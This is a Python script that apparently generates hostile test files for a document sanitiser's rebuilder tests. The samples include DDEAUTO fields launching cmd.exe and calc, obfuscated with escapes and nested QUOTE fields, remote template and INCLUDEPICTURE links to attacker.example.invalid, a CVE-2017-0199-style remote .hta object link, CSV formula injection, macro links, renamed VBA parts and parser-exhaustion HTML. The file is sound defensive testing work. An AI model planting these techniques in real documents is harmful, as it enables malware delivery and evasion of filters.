#!/usr/bin/env python3
"""Hostile office, RTF, CSV, legacy Office and HTML files for the issue-12
rebuilder tests (the families an attacker used to get active content past
the rebuilders by name, encoding or position).

Usage: gen_hostile.py OUTDIR [NAME...]     writes the files (all, or NAMEs)
       gen_hostile.py --list               prints "NAME<TAB>what it hides"

Python standard library only; nothing here runs: DDE fields name a program
that is never started, links point at example.invalid, the "VBA" is inert
text in a compound file, and the OLE package carries a text file.
"""
import io
import os
import posixpath
import struct
import sys
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from cfb import cfb_build  # noqa: E402

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = 'xmlns:w="%s"' % W_NS
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def make_png(w=2, h=2):
    """A valid RGB PNG (the image rebuilder decodes it)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + b"\x80\x40\x20" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


PNG = make_png()
CMD = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
SAMPLES = {}


def sample(name, what):
    def deco(fn):
        SAMPLES[name] = (fn, what)
        return fn
    return deco


def zbytes(entries):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(name, data)
    return b.getvalue()


def rels(items):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '<Relationships xmlns="%s">' % PR]
    for rid, typ, target, external in items:
        mode = ' TargetMode="External"' if external else ""
        out.append('<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (rid, typ, target, mode))
    return "\n".join(out + ["</Relationships>"])


def ctypes(overrides, defaults=()):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '<Types xmlns="%s">' % CT]
    for ext, typ in list(defaults) + [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
                                      ("xml", "application/xml"), ("png", "image/png")]:
        out.append('<Default Extension="%s" ContentType="%s"/>' % (ext, typ))
    for part, typ in overrides:
        out.append('<Override PartName="/%s" ContentType="%s"/>' % (part, typ))
    return "\n".join(out + ["</Types>"])


def wdoc(root, body):
    inner = "<w:body>%s</w:body>" % body if root == "document" else body
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:%s %s %s>%s</w:%s>' % (
        root, W, R, inner, root)


def para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def simple_field(instr, result):
    instr = instr.replace("&", "&amp;").replace('"', "&quot;")
    return '<w:p><w:fldSimple w:instr="%s"><w:r><w:t>%s</w:t></w:r></w:fldSimple></w:p>' % (instr, result)


def complex_field(pieces, result):
    """A field whose code is split over instrText runs; a piece that is a
    tuple is a nested complex field (its pieces, its result)."""
    out = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    for p in pieces:
        if isinstance(p, tuple):
            out.append(complex_field(p[0], p[1]))
        else:
            out.append('<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % p)
    out.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>%s</w:t></w:r>'
               '<w:r><w:fldChar w:fldCharType="end"/></w:r>' % result)
    return "".join(out)


def ole_blob(text):
    return cfb_build({"\x01Ole10Native": b"\x10\x00\x00\x00" + text.encode(),
                      "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 24})


def vba_blob():
    return cfb_build({"VBA": {"dir": b"\x01\x00inert", "_VBA_PROJECT": b"\xcc\x61\xff\xff",
                              "Module1": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nEnd Sub\r\n'},
                      "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'})


# ---------------------------------------------------------------- OOXML

DDE_BODY = (para("visible-text-before") +
            simple_field(" DDEAUTO %s " % CMD, "simple-result") +
            '<w:p>' + complex_field([" DD", "EAUTO " + CMD], "complex-result") + '</w:p>' +
            '<w:p>' + complex_field([' INCLUDEPICTURE "http://attacker.example.invalid/p.png" \\d '], "pic") +
            '</w:p>' + para("visible-text-after"))


def moved_docx(main, hdr_dir):
    """The main document outside word/: fields in it and in a header."""
    hdr = "%s/header1.xml" % hdr_dir
    return zbytes([
        ("[Content_Types].xml", ctypes([(main, WML + "document.main+xml"), (hdr, WML + "header+xml")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", main, False)])),
        (main, wdoc("document", DDE_BODY + '<w:sectPr><w:headerReference w:type="default" r:id="rId7"/></w:sectPr>')),
        (posixpath.join(posixpath.dirname(main), "_rels", posixpath.basename(main) + ".rels"),
         rels([("rId7", RT + "/header", posixpath.relpath(hdr, posixpath.dirname(main) or "."), False)])),
        (hdr, wdoc("hdr", simple_field(' INCLUDETEXT "\\\\\\\\attacker.example.invalid\\\\share\\\\x.docx" ', "h"))),
    ])


@sample("moved-main.docx", "main part in /content/, DDEAUTO and INCLUDEPICTURE fields in it and its header")
def s_moved():
    return moved_docx("content/main.xml", "content")


@sample("moved-root.docx", "main part at the package root, INCLUDETEXT in a header under hdr/")
def s_moved_root():
    return moved_docx("doc.xml", "hdr")


@sample("quote-dde.docx", "DDEAUTO built by a nested QUOTE field, and fields in footnotes and comments")
def s_quote():
    quote = ([" QUOTE 68 68 69 65 85 84 79 "], "DDEAUTO")
    body = (para("quote-text") + "<w:p>" + complex_field([quote, " " + CMD], "quote-result") + "</w:p>")
    foot = ('<w:footnote w:id="1"><w:p>%s</w:p></w:footnote>' %
            complex_field([" DDE Excel \"C:\\\\a.xls\" "], "fn"))
    comm = '<w:comment w:id="0">%s</w:comment>' % simple_field(" dde cmd /c calc ", "c")
    return zbytes([
        ("[Content_Types].xml", ctypes([("word/document.xml", WML + "document.main+xml"),
                                        ("word/footnotes.xml", WML + "footnotes+xml"),
                                        ("word/comments.xml", WML + "comments+xml")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "word/document.xml", False)])),
        ("word/document.xml", wdoc("document", body)),
        ("word/_rels/document.xml.rels", rels([("rId2", RT + "/footnotes", "footnotes.xml", False),
                                               ("rId3", RT + "/comments", "comments.xml", False)])),
        ("word/footnotes.xml", wdoc("footnotes", foot)),
        ("word/comments.xml", wdoc("comments", comm)),
    ])


@sample("unknown-part.docx", "a VBA project under another name and a part with an unknown relationship type")
def s_unknown():
    return zbytes([
        ("[Content_Types].xml", ctypes([("word/document.xml", WML + "document.main+xml"),
                                        ("word/settings.xml", WML + "settings+xml")],
                                       [("dat", "application/octet-stream"), ("bin", "image/png")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "word/document.xml", False),
                              ("rId9", "http://example.invalid/custom/thing", "extra/payload.bin", False)])),
        ("word/document.xml", wdoc("document", para("unknown-part-text"))),
        ("word/_rels/document.xml.rels", rels([
            ("rId1", MSR + "/vbaProject", "media/image9.png", False),
            ("rId2", RT + "/settings", "settings.xml", False),
            ("rId3", RT + "/image", "media/fake.png", False)])),
        ("word/media/image9.png", vba_blob()),
        ("word/media/fake.png", ole_blob("not an image")),
        ("word/settings.xml", wdoc("settings", '<w:updateFields w:val="true"/>')),
        ("extra/payload.bin", ole_blob("payload")),
        ("orphan/vbaProject.bin", vba_blob()),
    ])


def xlsm(decoy_type):
    wb = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" %s>'
          '<sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets>'
          '<definedNames><definedName name="_xlnm.Auto_Open">Data!$A$1</definedName></definedNames></workbook>' % R)
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>decoy-cell</t></is></c></row></sheetData>'
             '</worksheet>')
    return zbytes([
        ("[Content_Types].xml", ctypes([("decoy.xml", decoy_type), ("xl/workbook.xml", XLSM_MAIN),
                                        ("xl/worksheets/sheet1.xml", SML + "worksheet+xml")],
                                       [("bin", "application/vnd.ms-office.vbaProject")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "xl/workbook.xml", False)])),
        ("decoy.xml", '<?xml version="1.0"?><x>decoy</x>'),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels([("rId1", RT + "/worksheet", "worksheets/sheet1.xml", False),
                                             ("rId2", MSR + "/vbaProject", "vbaProject.bin", False)])),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/vbaProject.bin", vba_blob()),
    ])


@sample("decoy-text.xlsm", "macro workbook whose first [Content_Types] override is a text/plain.main+xml decoy")
def s_decoy_text():
    return xlsm("text/plain.main+xml")


@sample("decoy-docx.xlsm", "macro workbook whose first override claims a Word main part")
def s_decoy_docx():
    return xlsm(WML + "document.main+xml")


@sample("actions.pptx", "slide with ppaction://macro and ppaction://program click actions")
def s_pptx():
    P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    slide = ('<?xml version="1.0"?><p:sld %s %s %s><p:cSld><p:spTree>'
             '<p:sp><p:nvSpPr><p:cNvPr id="2" name="T"><a:hlinkClick r:id="" action="ppaction://macro?name=Run"/>'
             '<a:hlinkHover r:id="rId3" action="ppaction://program"/></p:cNvPr></p:nvSpPr>'
             '<p:txBody><a:p><a:r><a:t>slide-text</a:t></a:r></a:p></p:txBody></p:sp>'
             '</p:spTree></p:cSld></p:sld>' % (P, A, R))
    pres = ('<?xml version="1.0"?><p:presentation %s %s><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
            '</p:presentation>' % (P, R))
    PML = "application/vnd.openxmlformats-officedocument.presentationml."
    return zbytes([
        ("[Content_Types].xml", ctypes([("ppt/presentation.xml", PML + "presentation.main+xml"),
                                        ("ppt/slides/slide1.xml", PML + "slide+xml")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "ppt/presentation.xml", False)])),
        ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", rels([("rId1", RT + "/slide", "slides/slide1.xml", False)])),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels", rels([("rId3", RT + "/hyperlink", "file:///C:/Windows/calc.exe",
                                                     True)])),
    ])


@sample("clean.docx", "a harmless document: text, a table, a picture, a web link, a PAGE field (must survive)")
def s_clean():
    body = (para("clean-text 無害化") + '<w:p>' + complex_field([" PAGE "], "1") + '</w:p>' +
            '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>web-link</w:t></w:r></w:hyperlink></w:p>' +
            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'r:embed="rId2"/></w:drawing></w:r></w:p>')
    return zbytes([
        ("[Content_Types].xml", ctypes([("word/document.xml", WML + "document.main+xml"),
                                        ("word/styles.xml", WML + "styles+xml"),
                                        ("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "word/document.xml", False),
                              ("rId2", PR + "/metadata/core-properties", "docProps/core.xml", False)])),
        ("docProps/core.xml", '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
         'package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title>'
         '</cp:coreProperties>'),
        ("word/document.xml", wdoc("document", body)),
        ("word/_rels/document.xml.rels", rels([("rId1", RT + "/styles", "styles.xml", False),
                                               ("rId2", RT + "/image", "media/image1.png", False),
                                               ("rId3", RT + "/hyperlink", "https://www.example.org/", True)])),
        ("word/styles.xml", wdoc("styles", "")),
        ("word/media/image1.png", PNG),
    ])


# ---------------------------------------------------------------- ODF

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.2"')
MAN_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
ODT = "application/vnd.oasis.opendocument.text"


def odf(content, files, mime=ODT, manifest_extra=()):
    man = ['<?xml version="1.0" encoding="UTF-8"?>',
           '<manifest:manifest xmlns:manifest="%s" manifest:version="1.2">' % MAN_NS,
           '<manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>' % mime,
           '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>']
    for path, typ in list(manifest_extra) + [(p, "application/octet-stream") for p, _ in files]:
        man.append('<manifest:file-entry manifest:full-path="%s" manifest:media-type="%s"/>' % (path, typ))
    man.append("</manifest:manifest>")
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), mime)
        z.writestr("META-INF/manifest.xml", "\n".join(man))
        z.writestr("content.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content %s>'
                   '<office:body><office:text>%s</office:text></office:body></office:document-content>'
                   % (ODF_NS, content))
        for name, data in files:
            z.writestr(name, data)
    return b.getvalue()


@sample("ole100.odt", "OLE objects named Object 100 and ObjectReplacements, an image frame pointing at one")
def s_ole100():
    content = ('<text:p>ole100-text</text:p>'
               '<draw:frame draw:name="o1"><draw:object-ole xlink:href="./Object 100" xlink:type="simple"/>'
               '<draw:image xlink:href="./ObjectReplacements/Object 100"/></draw:frame>'
               '<draw:frame draw:name="o2"><draw:object xlink:href="./Object 250"/></draw:frame>'
               '<draw:frame draw:name="o3"><draw:image xlink:href="Pictures/x.png"/></draw:frame>')
    return odf(content, [("Object 100", ole_blob("ole-payload")),
                         ("ObjectReplacements/Object 100", ole_blob("replacement")),
                         ("Object 250", ole_blob("ole-payload-2")),
                         ("Pictures/x.png", PNG)])


@sample("script-links.odt", "vnd.sun.star.script: and macro: links on a button, a text link, an event listener")
def s_script_links():
    content = ('<office:forms><form:form form:name="F"><form:button form:name="B" form:id="b1" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" '
               'form:button-type="url"><office:event-listeners><script:event-listener script:language="ooo:script" '
               'script:event-name="form:performaction" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
               '</office:event-listeners></form:button></form:form></office:forms>'
               '<text:p>script-text <text:a xlink:href="macro:///Standard.Module1.Main">macro-link</text:a> '
               '<text:a xlink:href="VND.SUN.STAR.SCRIPT:Standard.Module1.Main">upper-link</text:a> '
               '<text:a xlink:href="https://www.example.org/">web-link</text:a></text:p>'
               '<draw:frame><draw:image xlink:href="vnd.sun.star.script:Standard.M.X?language=Basic"/></draw:frame>')
    return odf(content, [("Basic/Standard/Module1.xml", '<?xml version="1.0"?><script:module '
                          'xmlns:script="http://openoffice.org/2000/script" script:name="Module1">'
                          'Sub Main\nShell("calc")\nEnd Sub</script:module>'),
                         ("Scripts/python/x.py", "import os\n")])


# ---------------------------------------------------------------- RTF

def rtf(body):
    return ("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Arial;}}\\pard visible-rtf-text\\par\n%s\\par after\\par}"
            % body).encode("latin-1")


def hexesc(s):
    return "".join("\\'%02x" % ord(c) for c in s)


@sample("esc-dde.rtf", "DDEAUTO written with \\'hh escapes")
def s_rtf_esc():
    return rtf("{\\field{\\*\\fldinst %s c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe }{\\fldrslt r1}}"
               % hexesc("DDEAUTO"))


@sample("u-dde.rtf", "DDEAUTO and INCLUDEPICTURE written with \\uN escapes")
def s_rtf_u():
    u = "".join("\\u%d?" % ord(c) for c in "DDEAUTO")
    v = "".join("\\u%d " % ord(c) for c in "INCLUDEPICTURE")
    return rtf("{\\field{\\*\\fldinst {\\rtlch %s} c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe}{\\fldrslt r1}}"
               "{\\field{\\*\\fldinst \\uc0 %s \"http://attacker.example.invalid/x.png\"}{\\fldrslt r2}}" % (u, v))


@sample("obj-late.rtf", "\\object after another control word, upper case \\OBJDATA, \\objupdate")
def s_rtf_obj():
    data = ole_blob("rtf-ole").hex()
    return rtf("{\\rtlch\\fcs1 \\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata %s}}"
               "{\\ltrch \\*\\OBJDATA %s}{\\OBJECT\\OBJLINK\\objw100{\\*\\objclass Word.Document.8}}" % (data, data))


@sample("template.rtf", "\\*\\template remote template, nested QUOTE building DDEAUTO, TAB before DDEAUTO")
def s_rtf_template():
    return rtf("{\\*\\template http://attacker.example.invalid/t.dot}"
               "{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}{\\fldrslt DDEAUTO}} c:\\\\x.exe}"
               "{\\fldrslt q}}{\\field{\\*\\fldinst \\tab DDEAUTO c:\\\\\\\\x.exe}{\\fldrslt t}}")


@sample("clean.rtf", "harmless RTF with a PAGE field (must survive)")
def s_rtf_clean():
    return rtf("{\\b bold-text}{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} caf\\'e9")


# ---------------------------------------------------------------- CSV

@sample("sep.csv", "sep=; first line, formulas after ; and in a quoted cell")
def s_csv_sep():
    return b"sep=;\r\nname;value\r\nx;=cmd|' /C calc'!A0\r\ny;\"=HYPERLINK(\"\"http://x.invalid\"\")\"\r\n"


@sample("cr.csv", "rows separated by bare CR, and a quoted newline before a formula")
def s_csv_cr():
    return b"a,b\r=1+1,c\r\"multi\nline\",@SUM(A1)\rz,+2+3\r"


@sample("sjis.csv", "Shift_JIS with full-width equals/plus/minus/at")
def s_csv_sjis():
    return "名前,式\n田中,＝1+1\n鈴木,＋HYPERLINK(\"x\")\n佐藤,－1+2\n高橋,＠SUM(A1)\n".encode("cp932")


@sample("lead.csv", "formulas behind leading spaces, tabs and quotes")
def s_csv_lead():
    return b'a,  =1+1\nb,"  =2+2"\nc,\t=3+3\nd," \t@x"\ne,-12.5\n'


@sample("clean.csv", "harmless CSV with negative numbers (must stay unchanged)")
def s_csv_clean():
    return b"a,b,c\n1,-2.5,text\n"


# ---------------------------------------------------------------- legacy OLE2 Office

def fib():
    return bytes([0xEC, 0xA5, 0xC1, 0x00, 0, 0, 0x11, 0x04, 0, 0, 0x00, 0x00]) + b"\0" * 20


def word_doc(text, extra=None):
    tree = {"WordDocument": fib() + text, "1Table": b"\0" * 64,
            "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46}
    tree.update(extra or {})
    return cfb_build(tree)


@sample("tab-dde.doc", "Word 97 document: TAB before DDEAUTO in a field code")
def s_doc_tab():
    return word_doc(b"Hi \x13\tDDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \x14x\x15")


@sample("quote-dde.doc", "Word 97 document: DDE built from a nested QUOTE field")
def s_doc_quote():
    return word_doc(b"Hi \x13 \x13 QUOTE 68 68 69 \x14DDE\x15 c:\\\\x.exe \x14r\x15")


@sample("incpic.doc", "Word 97 document: INCLUDEPICTURE of a remote URL (UTF-16 text)")
def s_doc_incpic():
    return word_doc('x\x13 INCLUDEPICTURE "http://attacker.example.invalid/p.png" \x14p\x15'.encode("utf-16-le"))


def url_moniker(url):
    # StdOleLink stream layout: version, flags, ..., then a URL moniker CLSID and the URL in UTF-16
    clsid = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    u = url.encode("utf-16-le") + b"\0\0"
    return b"\x01\x00\x00\x02" + b"\x01\x00\x00\x00" + b"\0" * 8 + (len(u) + 20).to_bytes(4, "little") + clsid + \
        len(u).to_bytes(4, "little") + u


@sample("objpool.doc", "Word 97 document: ObjectPool link to a remote URL (the CVE-2017-0199 pattern)")
def s_doc_objpool():
    return word_doc(b"Hello objpool", {"ObjectPool": {"_1234": {
        "\x01Ole": url_moniker("http://attacker.example.invalid/x.hta"),
        "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 24}}})


@sample("embedded-docm.doc", "Word 97 document embedding a docm whose VBA part is renamed")
def s_doc_docm():
    docm = zbytes([
        ("[Content_Types].xml", ctypes([("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "word/document.xml", False)])),
        ("word/document.xml", wdoc("document", para("inner"))),
        ("word/_rels/document.xml.rels", rels([("rId1", MSR + "/vbaProject", "data/stuff.dat", False)])),
        ("word/data/stuff.dat", vba_blob()),
    ])
    return word_doc(b"Hello embedded", {"ObjectPool": {"_99": {"Package": docm,
                                                                 "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 24}}})


def word97(pieces, noise):
    """A Word 97 document with a real FIB and piece table ([MS-DOC]):
    `pieces` are (text, compressed) stored one after the other from 0x400,
    8-bit when compressed, else UTF-16LE; `noise` (formatting-like bytes,
    holding field marks) is put before the text, where a reader of the raw
    stream sees it but Word's text does not.  The Clx is in 1Table."""
    fib = bytearray(32)
    fib[0:2], fib[2:4], fib[10:12] = b"\xec\xa5", b"\xc1\x00", (0x0200).to_bytes(2, "little")
    fib += (14).to_bytes(2, "little") + b"\0" * 28 + (22).to_bytes(2, "little") + b"\0" * 88
    rg = bytearray(93 * 8)
    body, cps, pcds, cp = bytearray(noise), [0], b"", 0
    body = bytearray(b"\0" * (0x400 - len(fib) - 2 - len(rg) - 2)) + body
    stored = []
    for text, comp in pieces:
        data = text.encode("latin-1") if comp else text.encode("utf-16-le")
        stored.append((len(body), data, comp))
        body += data
        cp += len(text)
        cps.append(cp)
    head = len(fib) + 2 + len(rg) + 2
    for off, data, comp in stored:
        fc = ((head + off) * 2) | 0x40000000 if comp else head + off
        pcds += b"\0\0" + fc.to_bytes(4, "little") + b"\0\0"
    plc = b"".join(c.to_bytes(4, "little") for c in cps) + pcds
    clx = b"\x02" + len(plc).to_bytes(4, "little") + plc
    rg[33 * 8:33 * 8 + 8] = (0).to_bytes(4, "little") + len(clx).to_bytes(4, "little")
    stream = bytes(fib) + (93).to_bytes(2, "little") + bytes(rg) + b"\0\0" + bytes(body)
    return cfb_build({"WordDocument": stream, "1Table": clx + b"\0" * 16,
                      "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46})


# Found with third-party files (msoffcrypto-tool's plain.doc, oletools'
# dde-test-from-office2016.doc): field marks were looked for in the whole
# WordDocument stream, so formatting bytes read as a "field" of noise, and a
# real DDEAUTO was reported under the noise's name.
@sample("noise.doc", "Word 97 document, nothing active; bytes like field marks outside its text")
def s_doc_noise():
    return word97([("Just text, nothing else.", True)], b"\x13\x8a\x01NQ\xf0;0S:Q\x15\x13\x13\x02\x15")


@sample("pieces-dde.doc", "Word 97 document: DDEAUTO across an 8-bit and a UTF-16 piece, noise before")
def s_doc_pieces():
    return word97([("Hi \x13 DDE", True), ("AUTO c:\\x.exe \x14r\x15", False)], b"\x13\x8a\x01NQ\x15")


@sample("plain.doc", "Word 97 document with nothing active (still cannot be proven passive)")
def s_doc_plain():
    return word_doc(b"Just text, nothing else.")


# ---------------------------------------------------------------- HTML

# Found with third-party files (oletools' dde-test.xlsb, presentation.xps):
# OPC packages whose main part is not "*.main+xml" were typed "unreadable"
# and removed as "corrupt document".  Each is now removed for what it is.
@sample("binary.xlsb", "Excel binary workbook: main part type '...binary.macroEnabled.main' (no +xml)")
def s_xlsb():
    return zbytes([
        ("[Content_Types].xml", ctypes([("xl/worksheets/sheet1.bin", "application/vnd.ms-excel.worksheet")],
                                       [("bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "xl/workbook.bin", False)])),
        ("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00"),
        ("xl/_rels/workbook.bin.rels", rels([("rId1", RT + "/worksheet", "worksheets/sheet1.bin", False)])),
        ("xl/worksheets/sheet1.bin", b"\x81\x01\x00\x82\x01\x00"),
    ])


@sample("fixed.xps", "XPS document: an OPC package whose root relationship is a fixed representation")
def s_xps():
    xps = "http://schemas.microsoft.com/xps/2005/06/fixedrepresentation"
    return zbytes([
        ("[Content_Types].xml", ctypes([], [("fdseq", "application/vnd.ms-package.xps-fixeddocumentsequence+xml")])),
        ("_rels/.rels", rels([("rId1", xps, "FixedDocSeq.fdseq", False)])),
        ("FixedDocSeq.fdseq", '<FixedDocumentSequence xmlns="http://schemas.microsoft.com/xps/2005/06"/>'),
    ])


@sample("attrs.html", "one element with 400,000 attributes (5 MB): libxml2 checks duplicates quadratically")
def s_html_attrs():
    # Under AddressSanitizer (ASAN_OPTIONS set by scripts/test.sh) 40,000:
    # still 625 times html_max_attributes, but libclamav's own HTML
    # normaliser, which scans the original, spends over 120 s in ASan's
    # allocator on the 5 MB case (0.4 s in a normal build).  What the case
    # proves - our cap holds before libxml2 - is the same at both sizes.
    n = 40000 if os.environ.get("ASAN_OPTIONS") else 400000
    return b"<html><body><div " + b" ".join(b"a%d=1" % i for i in range(n)) + b">attr-text</div></body></html>"


@sample("nest.html", "200,000 nested elements, then 200,000 unmatched end tags")
def s_html_nest():
    return b"<html><body>" + b"<span>" * 200000 + b"nest-text" + b"</b>" * 200000 + b"</body></html>"


def main(argv):
    if len(argv) == 2 and argv[1] == "--list":
        for name, (_, what) in SAMPLES.items():
            print("%s\t%s" % (name, what))
        return 0
    if len(argv) < 2:
        print(__doc__, file=sys.stderr)
        return 64
    out = argv[1]
    os.makedirs(out, exist_ok=True)
    for name in argv[2:] or SAMPLES:
        fn, _ = SAMPLES[name]
        with open(os.path.join(out, name), "wb") as f:
            f.write(fn())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
